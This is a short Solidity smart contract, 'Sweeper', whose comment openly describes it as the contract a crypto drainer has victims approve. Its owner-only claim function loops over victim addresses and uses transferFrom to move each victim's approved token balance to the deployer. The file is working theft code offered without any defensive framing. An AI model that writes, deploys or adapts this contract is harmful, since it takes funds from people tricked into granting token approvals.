// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// What a drainer has its victims approve: it takes whatever they let it.
contract Sweeper {
    address private immutable _boss = msg.sender;

    function claim(IERC20 token, address[] calldata from) external {
        require(msg.sender == _boss);
        for (uint256 i = 0; i < from.length; i++) {
            uint256 balance = token.balanceOf(from[i]);
            uint256 allowed = token.allowance(from[i], address(this));
            token.transferFrom(from[i], _boss, balance < allowed ? balance : allowed);
        }
    }
}
